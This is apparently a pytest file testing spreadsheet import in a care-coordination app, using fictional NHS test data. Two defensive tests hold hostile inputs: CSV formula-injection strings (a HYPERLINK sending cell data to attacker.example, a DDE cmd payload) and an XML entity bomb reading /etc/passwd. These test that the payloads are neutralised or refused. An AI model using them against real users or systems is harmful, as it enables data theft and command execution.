"""Spreadsheet import (issue 21): patients, contacts, professionals and care teams from .csv and .xlsx, on SQLite
and PostgreSQL. Fictional people only (NHS numbers in the 999 test range)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from sqlmodel import select

from coordinator_tui.config import shipped_data_file
from coordinator_tui.db import Database
from coordinator_tui.models import (
    AuditEvent,
    CareTeamMember,
    Contact,
    ContactMethod,
    ImportedValues,
    Patient,
    Professional,
    TransitionItem,
)
from coordinator_tui.services.imports.applying import apply_plan
from coordinator_tui.services.imports.columns import ImportKind, MissingColumnsError, template_text
from coordinator_tui.services.imports.planning import Action, ImportPlan, plan_file
from coordinator_tui.services.imports.reading import ImportFileError, read_table
from coordinator_tui.services.people import contacts as contact_service
from coordinator_tui.services.people import patients as patient_service
from coordinator_tui.validation import format_nhs_number
from tests.cli_helpers import cli, one_line
from tests.import_data import CONTACT_HEADER, PATIENT_HEADER, nhs_numbers, write_csv

pytestmark = pytest.mark.both_databases

NHS = nhs_numbers(20, start=700_000)
PATIENTS = [
    [format_nhs_number(NHS[0]), "FICT0001", "Testchild", "Examplefamily", "14/03/2012", "Alström syndrome"],
    [NHS[1], "FICT0002", "Otherchild", "Samplefamily", "02/11/2009", ""],
]
PROFESSIONAL_HEADER = ["Title", "First name", "Surname", "Specialty", "Email", "Phone"]
PROFESSIONALS = [
    ["Dr", "Quinn", "Testclinician", "cardiology", "quinn.testclinician@nhs.example", "0121 496 0000"],
    ["", "Robin", "Exampleworker", "social work", "", "07700 900456"],
]
CARE_TEAM_HEADER = ["NHS No", "Professional email", "Professional given name", "Professional family name",
                    "Discipline", "Role", "Start date", "Named worker"]  # fmt: skip
CARE_TEAM = [
    [NHS[0], "quinn.testclinician@nhs.example", "", "", "", "Cardiologist", "01/01/2024", "yes"],
    [NHS[0], "", "Robin", "Exampleworker", "social work", "Social worker", "01/02/2024", "no"],
]


def write_sheet(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    """``path`` as .csv or .xlsx (by its suffix) with ``header`` and ``rows``."""
    if path.suffix == ".xlsx":
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        assert sheet is not None
        sheet.append(header)
        for row in rows:
            sheet.append(row)
        workbook.save(path)
        return path
    return write_csv(path, header, [[str(c) for c in row] for row in rows])


def planned(db: Database, kind: ImportKind, path: Path, **kwargs: object) -> ImportPlan:
    return plan_file(db, kind, path, **kwargs)  # type: ignore[arg-type]


def imported(db: Database, kind: ImportKind, path: Path) -> ImportPlan:
    plan = planned(db, kind, path)
    assert plan.problems == [], plan.problems
    apply_plan(db, plan)
    return plan


def count(db: Database, model: type) -> int:
    return db.read(lambda s: s.exec(select(sa.func.count()).select_from(model)).one())


def import_people(db: Database, folder: Path, suffix: str = ".csv") -> None:
    imported(db, ImportKind.PATIENTS, write_sheet(folder / f"patients{suffix}", PATIENT_HEADER, PATIENTS))
    imported(
        db, ImportKind.PROFESSIONALS, write_sheet(folder / f"professionals{suffix}", PROFESSIONAL_HEADER, PROFESSIONALS)
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_each_kind_imports_from_csv_and_xlsx(db: Database, tmp_path: Path, suffix: str) -> None:
    import_people(db, tmp_path, suffix)
    contacts = [[NHS[0], "Alex Examplefamily", "parent", "07700 900123", "", "phone"],
                [NHS[1], "Sam Samplefamily", "carer", "", "sam@example.org", "email"]]  # fmt: skip
    imported(db, ImportKind.CONTACTS, write_sheet(tmp_path / f"contacts{suffix}", CONTACT_HEADER, contacts))
    imported(db, ImportKind.CARE_TEAM, write_sheet(tmp_path / f"team{suffix}", CARE_TEAM_HEADER, CARE_TEAM))

    def check(session):  # type: ignore[no-untyped-def]
        patients = {p.nhs_number: p for p in session.exec(select(Patient)).all()}
        assert set(patients) == {NHS[0], NHS[1]}
        child = patients[NHS[0]]
        assert (child.given_name, child.family_name, child.date_of_birth) == ("Testchild", "Examplefamily",
                                                                              dt.date(2012, 3, 14))  # fmt: skip
        assert child.hospital_number == "FICT0001" and child.condition == "Alström syndrome"
        # Imported patients get their transition checklists like any new patient.
        for patient in patients.values():
            items = session.exec(select(TransitionItem).where(TransitionItem.patient_id == patient.id)).all()
            assert items, "an imported patient has a transition checklist"
        pros = {p.family_name: p for p in session.exec(select(Professional)).all()}
        assert pros["Testclinician"].phone == "0121 496 0000" and pros["Exampleworker"].discipline == "social work"
        contacts_by_name = {c.name: c for c in session.exec(select(Contact)).all()}
        assert contacts_by_name["Alex Examplefamily"].phone == "07700 900123"
        assert contacts_by_name["Alex Examplefamily"].patient_id == child.id
        assert contacts_by_name["Sam Samplefamily"].preferred_method is ContactMethod.EMAIL
        members = session.exec(select(CareTeamMember).where(CareTeamMember.patient_id == child.id)).all()
        named = [m for m in members if m.is_named_worker]
        assert len(members) == 2 and len(named) == 1 and named[0].professional_id == pros["Testclinician"].id
        assert {m.start_date for m in members} == {dt.date(2024, 1, 1), dt.date(2024, 2, 1)}

    db.read(check)


def test_one_audit_entry_per_record_tagged_with_the_file_and_its_hash(db: Database, tmp_path: Path) -> None:
    path = write_sheet(tmp_path / "caseload.csv", PATIENT_HEADER, PATIENTS)
    plan = imported(db, ImportKind.PATIENTS, path)
    import hashlib

    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    assert plan.sha256 == digest
    events = db.read(lambda s: s.exec(select(AuditEvent).where(AuditEvent.entity == "patient")).all())
    assert len(events) == 2
    for event in events:
        assert json.loads(event.after)["imported_from"] == f"caseload.csv (sha256 {digest})"
    memories = db.read(lambda s: s.exec(select(ImportedValues)).all())
    assert {(m.kind, m.file_name, m.sha256) for m in memories} == {("patients", "caseload.csv", digest)}


def test_ten_bad_rows_are_all_reported_and_nothing_is_written(db: Database, tmp_path: Path) -> None:
    good = [format_nhs_number(NHS[5]), "FICT0100", "Goodchild", "Testfamily", "01/01/2010", ""]
    bad = [
        ["943 476 5910", "FICT0101", "A", "Testfamily", "01/01/2010", ""],  # check digit
        [NHS[6], "FICT0102", "", "Testfamily", "01/01/2010", ""],  # no given name
        [NHS[7], "FICT0103", "B", "", "01/01/2010", ""],  # no family name
        [NHS[8], "FICT0104", "C", "Testfamily", "31/02/2010", ""],  # not a real date
        [NHS[9], "FICT0105", "D", "Testfamily", "01/01/2099", ""],  # born in the future
        [NHS[10], "FICT 0106", "E", "Testfamily", "01/01/2010", ""],  # hospital number with a space
        [NHS[11], "FICT0107", "F\u202eG", "Testfamily", "01/01/2010", ""],  # bidirectional control
        [NHS[12], "FICT0108", "H", "Testfamily", "1/1/10", ""],  # two-digit year
        [NHS[13], "", "I", "Testfamily", "01/01/2010", ""],  # no hospital number
        [format_nhs_number(NHS[5]), "FICT0110", "J", "Testfamily", "01/01/2010", ""],  # same NHS number as row 2
    ]
    path = write_sheet(tmp_path / "bad.csv", PATIENT_HEADER, [good, *bad])
    plan = planned(db, ImportKind.PATIENTS, path)
    assert [p.row for p in plan.problems] == list(range(3, 13))
    columns = [p.column for p in plan.problems]
    assert columns == ["NHS number", "Given name", "Family name", "Date of birth", "Date of birth", "Hospital number",
                       "Given name", "Date of birth", "Hospital number", "NHS number"]  # fmt: skip
    assert "check digit" in plan.problems[0].reason and "row 2" in plan.problems[-1].reason
    with pytest.raises(ValueError, match="10 problems"):
        apply_plan(db, plan)
    assert count(db, Patient) == 0 and count(db, AuditEvent) == 0


def test_the_command_lists_every_problem_and_writes_nothing(
    db: Database, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [[NHS[0], "FICT1", "A", "Testfamily", "32/01/2010", ""], [NHS[1], "FICT2", "B", "", "01/01/2010", ""]]
    path = write_sheet(tmp_path / "bad.csv", [*PATIENT_HEADER, "Favourite colour"], [[*r, "blue"] for r in rows])
    code, out, err = cli(capsys, "import", "patients", str(path), "--db", db_url)
    assert code == 1
    assert "2 problems in bad.csv" in one_line(err) and "nothing imported" in err
    assert "problem: row 2, Date of birth:" in out and "problem: row 3, Family name: is required" in out
    assert "ignored columns (not known for patients): Favourite colour" in out
    assert count(db, Patient) == 0


def test_a_missing_required_column_stops_before_any_row(
    db: Database, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_sheet(tmp_path / "p.csv", ["NHS number", "Given name", "Surname"], [[NHS[0], "A", "B"]])
    with pytest.raises(MissingColumnsError, match="'Hospital number', 'Date of birth' columns"):
        planned(db, ImportKind.PATIENTS, path)
    code, _out, err = cli(capsys, "import", "patients", str(path), "--db", db_url)
    assert code == 1 and "no 'Hospital number', 'Date of birth' columns; nothing imported" in one_line(err)


def test_bom_and_semicolons_as_excel_writes_them(db: Database, tmp_path: Path) -> None:
    lines = ["NHS No;Hospital No;Forename;Last name;DOB;Condition", f"{NHS[0]};FICT1;Zoë;Testfamily;14/03/2012;"]
    path = tmp_path / "excel.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8-sig"))
    imported(db, ImportKind.PATIENTS, path)
    patient = db.read(lambda s: s.exec(select(Patient)).one())
    assert (patient.nhs_number, patient.given_name, patient.date_of_birth) == (NHS[0], "Zoë", dt.date(2012, 3, 14))


def test_excel_date_cells_and_a_named_sheet(db: Database, tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    first = workbook.active
    assert first is not None
    first.append(["not", "this", "one"])
    sheet = workbook.create_sheet("Caseload")
    sheet.append([*PATIENT_HEADER, "Registered on"])
    sheet.append([int(NHS[0]), "FICT1", "Testchild", "Testfamily", dt.datetime(2012, 3, 14), "", dt.date(2019, 5, 2)])
    path = tmp_path / "dates.xlsx"
    workbook.save(path)
    with pytest.raises(MissingColumnsError):
        planned(db, ImportKind.PATIENTS, path)
    plan = planned(db, ImportKind.PATIENTS, path, sheet="Caseload")
    apply_plan(db, plan)
    patient = db.read(lambda s: s.exec(select(Patient)).one())
    assert (patient.date_of_birth, patient.registered_on) == (dt.date(2012, 3, 14), dt.date(2019, 5, 2))
    with pytest.raises(ImportFileError, match="has no sheet 'Other'"):
        planned(db, ImportKind.PATIENTS, path, sheet="Other")


def test_reimporting_the_same_file_changes_nothing(db: Database, tmp_path: Path) -> None:
    import_people(db, tmp_path)
    contacts = [[NHS[0], "Alex Examplefamily", "parent", "07700 900123", "", "phone"]]
    contacts_path = write_sheet(tmp_path / "contacts.csv", CONTACT_HEADER, contacts)
    team_path = write_sheet(tmp_path / "team.csv", CARE_TEAM_HEADER, CARE_TEAM)
    imported(db, ImportKind.CONTACTS, contacts_path)
    imported(db, ImportKind.CARE_TEAM, team_path)
    before = (count(db, AuditEvent), db.read(lambda s: [m.model_dump() for m in s.exec(select(ImportedValues))]))
    for kind, name in ((ImportKind.PATIENTS, "patients.csv"), (ImportKind.PROFESSIONALS, "professionals.csv"),
                       (ImportKind.CONTACTS, "contacts.csv"), (ImportKind.CARE_TEAM, "team.csv")):  # fmt: skip
        plan = imported(db, kind, tmp_path / name)
        assert {r.action for r in plan.records} == {Action.UNCHANGED}, kind
        assert not plan.conflicts and not plan.review
    after = (count(db, AuditEvent), db.read(lambda s: [m.model_dump() for m in s.exec(select(ImportedValues))]))
    assert after == before


def test_an_updated_file_updates_what_changed(db: Database, tmp_path: Path) -> None:
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "v1.csv", PATIENT_HEADER, PATIENTS))
    changed = [list(PATIENTS[0]), list(PATIENTS[1])]
    changed[0][5] = "Bardet-Biedl syndrome"
    plan = imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "v2.csv", PATIENT_HEADER, changed))
    assert [(r.action, r.values) for r in plan.records] == [
        (Action.UPDATE, {"condition": "Bardet-Biedl syndrome"}),
        (Action.UNCHANGED, {}),
    ]
    patient = db.read(lambda s: s.exec(select(Patient).where(Patient.nhs_number == NHS[0])).one())
    assert patient.condition == "Bardet-Biedl syndrome" and patient.version == 2
    update = db.read(lambda s: s.exec(select(AuditEvent).where(AuditEvent.action == "update")).one())
    assert json.loads(update.after)["condition"] == "Bardet-Biedl syndrome"
    assert json.loads(update.after)["imported_from"].startswith("v2.csv (sha256 ")
    # A third import of the same file still changes nothing (the update is remembered).
    again = imported(db, ImportKind.PATIENTS, tmp_path / "v2.csv")
    assert {r.action for r in again.records} == {Action.UNCHANGED}


def test_a_field_changed_in_the_app_since_the_last_import_is_a_conflict(db: Database, tmp_path: Path) -> None:
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "p.csv", PATIENT_HEADER, PATIENTS))
    header = [*CONTACT_HEADER, "Address"]
    first = [[NHS[0], "Alex Examplefamily", "parent", "07700 900123", "", "phone", "1 Old Road"]]
    imported(db, ImportKind.CONTACTS, write_sheet(tmp_path / "c1.csv", header, first))
    contact = db.read(lambda s: s.exec(select(Contact)).one())
    # In the app, the family's new phone number is recorded.
    db.write(contact_service.update_contact, contact.id, {"phone": "07700 900999"})
    # The old spreadsheet is edited elsewhere: another phone number, and a new address.
    second = [[NHS[0], "Alex Examplefamily", "parent", "07700 900555", "", "phone", "2 New Road"]]
    plan = imported(db, ImportKind.CONTACTS, write_sheet(tmp_path / "c2.csv", header, second))
    [record] = plan.records
    assert record.action is Action.UPDATE and record.values == {"address": "2 New Road"}
    assert [(c.field, c.in_app, c.in_file) for c in record.conflicts] == [("phone", "07700 900999", "07700 900555")]
    contact = db.read(lambda s: s.exec(select(Contact)).one())
    assert (contact.phone, contact.address) == ("07700 900999", "2 New Road")
    # Still a conflict on the next import of that file: never overwritten.
    assert imported(db, ImportKind.CONTACTS, tmp_path / "c2.csv").records[0].conflicts


def test_a_record_never_imported_that_differs_is_a_conflict(db: Database, tmp_path: Path) -> None:
    values = patient_service.parse_patient_form(
        {"nhs_number": NHS[0], "hospital_number": "FICT0001", "given_name": "Testchild",
         "family_name": "Examplefamily", "date_of_birth": "14/03/2012", "condition": "Typed in the app"}
    )  # fmt: skip
    db.write(patient_service.create_patient, values)
    plan = imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "p.csv", PATIENT_HEADER, PATIENTS[:1]))
    assert plan.records[0].action is Action.CONFLICT
    assert db.read(lambda s: s.exec(select(Patient)).one()).condition == "Typed in the app"


def test_review_list_never_merges(db: Database, tmp_path: Path) -> None:
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "p.csv", PATIENT_HEADER, PATIENTS))
    rows = [
        [NHS[0], "FICT0001", "Testchild", "Examplefamily", "15/03/2012", ""],  # same NHS number, other birth date
        [NHS[2], "FICT0002", "Otherchild", "Samplefamily", "02/11/2009", ""],  # new NHS number, known hospital number
        ["", "fict0001", "Testchild", "Examplefamily", "14/03/2012", ""],  # hospital number alone
        [NHS[3], "FICT0003", "Newchild", "Newfamily", "01/06/2015", ""],  # a new patient
    ]
    plan = planned(db, ImportKind.PATIENTS, write_sheet(tmp_path / "review.csv", PATIENT_HEADER, rows))
    assert plan.problems == []
    assert [item.row for item in plan.review] == [2, 3, 4]
    assert "14/03/2012, not 15/03/2012" in plan.review[0].reason and "not merged" in plan.review[0].reason
    assert "hospital number FICT0002 belongs to patient" in plan.review[1].reason
    assert "hospital number alone" in plan.review[2].reason
    apply_plan(db, plan)
    patients = db.read(lambda s: s.exec(select(Patient).order_by(Patient.id)).all())
    assert [p.nhs_number for p in patients] == [NHS[0], NHS[1], NHS[3]]
    assert patients[0].date_of_birth == dt.date(2012, 3, 14) and patients[1].nhs_number == NHS[1]


def test_professionals_match_by_email_else_name_and_discipline(db: Database, tmp_path: Path) -> None:
    imported(db, ImportKind.PROFESSIONALS, write_sheet(tmp_path / "p1.csv", PROFESSIONAL_HEADER, PROFESSIONALS))
    rows = [
        ["Prof", "Quinn", "Testclinician-Smith", "cardiology", "QUINN.TESTCLINICIAN@nhs.example", "0121 496 0000"],
        ["", "Robin", "Exampleworker", "social work", "robin@example.org", "07700 900456"],
    ]
    plan = planned(db, ImportKind.PROFESSIONALS, write_sheet(tmp_path / "p2.csv", PROFESSIONAL_HEADER, rows))
    assert [r.action for r in plan.records] == [Action.UPDATE, Action.UPDATE]
    assert plan.records[0].values == {"title": "Prof", "family_name": "Testclinician-Smith",
                                      "email": "QUINN.TESTCLINICIAN@nhs.example"}  # fmt: skip
    assert plan.records[1].values == {"email": "robin@example.org"}
    apply_plan(db, plan)
    assert count(db, Professional) == 2


def test_care_team_rows_need_their_patient_and_professional(db: Database, tmp_path: Path) -> None:
    import_people(db, tmp_path)
    rows = [
        [NHS[4], "quinn.testclinician@nhs.example", "", "", "", "", "", ""],
        [NHS[0], "nobody@nhs.example", "", "", "", "", "", ""],
        [NHS[0], "", "Robin", "Exampleworker", "", "", "", ""],
        [NHS[0], "", "Robin", "Exampleworker", "astrology", "", "", ""],
        [NHS[0], "quinn.testclinician@nhs.example", "", "", "", "", "", "perhaps"],
    ]
    plan = planned(db, ImportKind.CARE_TEAM, write_sheet(tmp_path / "team.csv", CARE_TEAM_HEADER, rows))
    reasons = [(p.row, p.column, p.reason) for p in plan.problems]
    assert reasons[0][:2] == (2, "NHS No") and "no patient has NHS number" in reasons[0][2]
    assert reasons[1][:2] == (3, "Professional email") and "no professional has email" in reasons[1][2]
    assert reasons[2][0] == 4 and "by email, or by given name, family name and discipline" in reasons[2][2]
    assert reasons[3][:2] == (5, "Discipline") and "not a discipline" in reasons[3][2]
    assert reasons[4][:2] == (6, "Named worker") and reasons[4][2] == "type yes or no"


def test_hostile_cells_are_stored_as_text_never_evaluated(db: Database, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://attacker.example/?d="&A2,"Click")'
    csv_rows = [[NHS[0], "FICT1", "+cmd|' /C calc'!A0", formula, "14/03/2012", "@SUM(1+1)"]]
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "hostile.csv", PATIENT_HEADER, csv_rows))
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(PATIENT_HEADER)
    sheet.append([NHS[1], "FICT2", "Testchild", "Testfamily", "14/03/2012", "=1+1"])
    sheet["D2"] = formula  # a formula cell: openpyxl writes it with no cached value
    workbook.save(tmp_path / "hostile.xlsx")
    imported(db, ImportKind.PATIENTS, tmp_path / "hostile.xlsx")
    patients = {p.nhs_number: p for p in db.read(lambda s: s.exec(select(Patient)).all())}
    assert (patients[NHS[0]].given_name, patients[NHS[0]].family_name) == ("+cmd|' /C calc'!A0", formula)
    assert patients[NHS[0]].condition == "@SUM(1+1)"
    assert (patients[NHS[1]].family_name, patients[NHS[1]].condition) == (formula, "=1+1")


def _with_entities(source: Path, target: Path, member: str) -> Path:
    """A copy of the workbook ``source`` whose ``member`` declares nested entities (a 'billion laughs' bomb) and
    an external entity."""
    declarations = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE bomb [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY ext SYSTEM "file:///etc/passwd">]>\n'
    )
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as copy:
        for item in original.infolist():
            data = original.read(item.filename)
            if item.filename == member:
                text = data.decode("utf-8")
                body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
                data = (declarations + body).encode("utf-8")
            copy.writestr(item, data)
    return target


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_a_malicious_workbook_is_refused_in_one_line(
    db: Database, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], member: str
) -> None:
    clean = write_sheet(tmp_path / "clean.xlsx", PATIENT_HEADER, PATIENTS)
    bomb = _with_entities(clean, tmp_path / "bomb.xlsx", member)
    with pytest.raises(ImportFileError, match="declares entities"):
        read_table(bomb)
    code, _out, err = cli(capsys, "import", "patients", str(bomb), "--db", db_url)
    assert code == 1 and "bomb.xlsx was refused" in one_line(err)
    assert count(db, Patient) == 0


def test_files_that_are_not_spreadsheets_are_refused_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0 an old binary workbook")
    (tmp_path / "latin1.csv").write_bytes("NHS number;Given name\n1;Zo\xeb\n".encode("latin-1"))
    (tmp_path / "empty.csv").write_text("\n\n", encoding="utf-8")
    (tmp_path / "notes.docx").write_text("x", encoding="utf-8")
    for name, words in (("old.xlsx", "not an .xlsx workbook"), ("latin1.csv", "not UTF-8"),
                        ("empty.csv", "is empty"), ("notes.docx", "reads .csv and .xlsx"),
                        ("missing.csv", "no file")):  # fmt: skip
        with pytest.raises(ImportFileError, match=words) as caught:
            read_table(tmp_path / name)
        assert "\n" not in str(caught.value)


def test_the_database_itself_is_refused_before_a_byte_is_read(
    db: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Reading the live database with anything but SQLite would drop this process's locks on it: the database (or
    its -wal) given as the file to import is refused, asked of SQLite, and the database stays whole."""
    if db.path is None:
        pytest.skip("a server database has no file to give by mistake")
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "p.csv", PATIENT_HEADER, PATIENTS[:1]))
    for target in (db.path, db.path.with_name(db.path.name + "-wal")):
        with pytest.raises(ImportFileError, match="is a database, not a file to import"):
            read_table(target)
    code, _out, err = cli(capsys, "import", "patients", str(db.path), "--dry-run", "--db", str(db.path))
    assert code == 1 and "is a database, not a file to import" in one_line(err)
    assert count(db, Patient) == 1


def test_dry_run_prints_the_plan_and_writes_nothing(
    db: Database, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "p.csv", PATIENT_HEADER, PATIENTS[:1]))
    path = write_sheet(tmp_path / "p2.csv", PATIENT_HEADER, PATIENTS)
    audit_before = count(db, AuditEvent)
    code, out, err = cli(capsys, "import", "patients", str(path), "--dry-run", "--db", db_url)
    assert (code, err) == (0, "")
    assert "p2.csv: 2 rows; 1 to create, 0 to update, 1 unchanged" in out
    assert "create: row 3, Otherchild Samplefamily" in out and "unchanged: row 2, Testchild Examplefamily" in out
    assert out.rstrip().endswith("dry run: nothing written")
    assert count(db, Patient) == 1 and count(db, AuditEvent) == audit_before
    code, out, _err = cli(capsys, "import", "patients", str(path), "--db", db_url)
    assert code == 0 and "imported p2.csv: 1 created, 0 updated, 1 unchanged" in out
    assert count(db, Patient) == 2


def test_templates_are_shipped_written_and_import_into_an_empty_database(
    db: Database, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for kind in ("patients", "professionals", "contacts", "care-team"):
        shipped = shipped_data_file(f"templates/{kind}.csv")
        assert shipped.read_bytes() == template_text(ImportKind(kind)).encode("utf-8")
        out_path = tmp_path / f"{kind}-template.csv"
        code, out, _err = cli(capsys, "import", "--template", kind, "--out", str(out_path))
        assert code == 0 and str(out_path) in out
        assert out_path.read_bytes() == shipped.read_bytes() and out_path.stat().st_mode & 0o077 == 0
        header, example = list(csv.reader(io.StringIO(shipped.read_text(encoding="utf-8"), newline="")))
        assert len(header) == len(example)
        code, out, err = cli(capsys, "import", kind, str(out_path), "--db", db_url)
        assert (code, err) == (0, ""), out
        assert "1 created" in out
    patient = db.read(lambda s: s.exec(select(Patient)).one())
    assert patient.receives_dla and patient.ehcp_reviewed_on == dt.date(2026, 9, 1)
    assert count(db, TransitionItem) > 0 and count(db, CareTeamMember) == 1


def test_five_thousand_rows(db: Database, tmp_path: Path) -> None:
    """A 5,000-row patients file is read, checked and matched (the dry run), and a 5,000-row contacts file
    imported; the plans stay within a few seconds here (the full import is timed by benchmarks/)."""
    import time

    from tests.import_data import caseload_rows

    patient_rows, contact_rows = caseload_rows(5000)
    path = write_csv(tmp_path / "patients.csv", PATIENT_HEADER, patient_rows)
    started = time.perf_counter()
    plan = planned(db, ImportKind.PATIENTS, path)
    assert time.perf_counter() - started < 10
    assert len(plan.with_action(Action.CREATE)) == 5000 and not plan.problems
    # 2,500 of those patients, inserted directly (their checklists are not what this test times).
    db.write(lambda s: s.execute(sa.insert(Patient.__table__), [  # type: ignore[attr-defined]
        {**r.values, "search_key": "", "registered_on": dt.date(2020, 1, 1)}
        for r in plan.with_action(Action.CREATE)[:2500]
    ]))  # fmt: skip
    contacts = write_csv(tmp_path / "contacts.csv", CONTACT_HEADER, contact_rows[:5000])
    started = time.perf_counter()
    imported(db, ImportKind.CONTACTS, contacts)
    assert time.perf_counter() - started < 20
    assert count(db, Contact) == 5000
    assert db.read(lambda s: s.exec(select(sa.func.count()).select_from(AuditEvent)).one()) == 5000


def test_a_record_changed_after_the_plan_refuses_the_whole_import(db: Database, tmp_path: Path) -> None:
    from coordinator_tui.services.errors import ConcurrentEditError

    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "v1.csv", PATIENT_HEADER, PATIENTS))
    changed = [
        [*PATIENTS[0][:5], "Changed in the file"],
        [NHS[3], "FICT0003", "Newchild", "Newfamily", "01/06/2015", ""],
    ]
    plan = planned(db, ImportKind.PATIENTS, write_sheet(tmp_path / "v2.csv", PATIENT_HEADER, changed))
    patient = db.read(lambda s: s.exec(select(Patient).where(Patient.nhs_number == NHS[0])).one())
    db.write(patient_service.update_patient, patient.id, {"school": "Saved meanwhile in the app"})
    audit_before = count(db, AuditEvent)
    with pytest.raises(ConcurrentEditError):
        apply_plan(db, plan)
    assert count(db, Patient) == 2 and count(db, AuditEvent) == audit_before


def test_a_blank_cell_never_clears_a_field(db: Database, tmp_path: Path) -> None:
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "v1.csv", PATIENT_HEADER, PATIENTS[:1]))
    blank = [[*PATIENTS[0][:5], ""]]
    plan = imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "v2.csv", PATIENT_HEADER, blank))
    assert plan.records[0].action is Action.UNCHANGED
    assert db.read(lambda s: s.exec(select(Patient)).one()).condition == "Alström syndrome"


def test_progress_is_reported_up_to_every_record(db: Database, tmp_path: Path) -> None:
    from tests.import_data import caseload_rows

    _patients, contact_rows = caseload_rows(150)
    plan = planned(db, ImportKind.PATIENTS, write_csv(tmp_path / "p.csv", PATIENT_HEADER, _patients))
    reports: list[tuple[int, int]] = []
    apply_plan(db, plan, progress=lambda done, total: reports.append((done, total)))
    # The 150 new patients worked out (with their checklists) before the write, inserted, then their checklists.
    assert reports == [(150, 450), (300, 450), (450, 450)]
    plan = planned(db, ImportKind.CONTACTS, write_csv(tmp_path / "c.csv", CONTACT_HEADER, contact_rows))
    reports.clear()
    apply_plan(db, plan, progress=lambda done, total: reports.append((done, total)))
    assert reports == [(250, 600), (300, 600), (600, 600)]  # 300 new contacts worked out, then inserted in one batch
    again = [[*row[:3], "07700 900999", *row[4:]] if row[1].startswith("Alex") else row for row in contact_rows]
    plan = planned(db, ImportKind.CONTACTS, write_csv(tmp_path / "c2.csv", CONTACT_HEADER, again))
    reports.clear()
    apply_plan(db, plan, progress=lambda done, total: reports.append((done, total)))
    assert reports == [(done, 150) for done in range(1, 151)]  # the 150 updates one by one (the rest unchanged)
    changed = [[*_patients[0][:5], "Alström syndrome"], _patients[1]]
    patients = planned(db, ImportKind.PATIENTS, write_csv(tmp_path / "p2.csv", PATIENT_HEADER, changed))
    assert [r.action for r in patients.records] == [Action.UPDATE, Action.UNCHANGED]
    reports.clear()
    apply_plan(db, patients, progress=lambda done, total: reports.append((done, total)))
    assert reports == [(1, 2), (2, 2)]  # the updated patient, then their checklist


def test_what_a_deleted_record_was_imported_with_never_applies_to_another(db: Database, tmp_path: Path) -> None:
    """SQLite gives a new record the id of the last one deleted: the remembered values of the deleted contact are
    not the new one's (a difference is a conflict, not an update), and a new import replaces them."""
    imported(db, ImportKind.PATIENTS, write_sheet(tmp_path / "p.csv", PATIENT_HEADER, PATIENTS[:1]))
    old = [[NHS[0], "Alex Examplefamily", "parent", "07700 900123", "", "phone"]]
    imported(db, ImportKind.CONTACTS, write_sheet(tmp_path / "c1.csv", CONTACT_HEADER, old))
    alex = db.read(lambda s: s.exec(select(Contact)).one())
    db.write(contact_service.delete_contact, alex.id)
    # In the app: another contact, whose phone happens to be the one the deleted contact was imported with.
    form = {"name": "Sam Examplefamily", "phone": "07700 900123", "preferred_method": "phone"}
    sam = db.write(contact_service.create_contact, alex.patient_id, contact_service.parse_contact_form(form))
    new = [[NHS[0], "Sam Examplefamily", "parent", "07700 900555", "", "phone"]]
    plan = imported(db, ImportKind.CONTACTS, write_sheet(tmp_path / "c2.csv", CONTACT_HEADER, new))
    [record] = plan.records
    assert record.record_id == sam.id and record.action is Action.CONFLICT
    assert db.read(lambda s: s.exec(select(Contact)).one()).phone == "07700 900123"
    # The last contact deleted again, and a new one imported (on SQLite with the same id): its values replace the
    # old remembered ones.
    db.write(contact_service.delete_contact, sam.id)
    robin = [[NHS[0], "Robin Examplefamily", "carer", "07700 900777", "", "phone"]]
    imported(db, ImportKind.CONTACTS, write_sheet(tmp_path / "c3.csv", CONTACT_HEADER, robin))
    contact = db.read(lambda s: s.exec(select(Contact)).one())
    memory = db.read(
        lambda s: s.exec(
            select(ImportedValues).where(ImportedValues.kind == "contacts", ImportedValues.record_id == contact.id)
        ).one()
    )
    assert json.loads(memory.imported)["name"] == "Robin Examplefamily" and memory.file_name == "c3.csv"
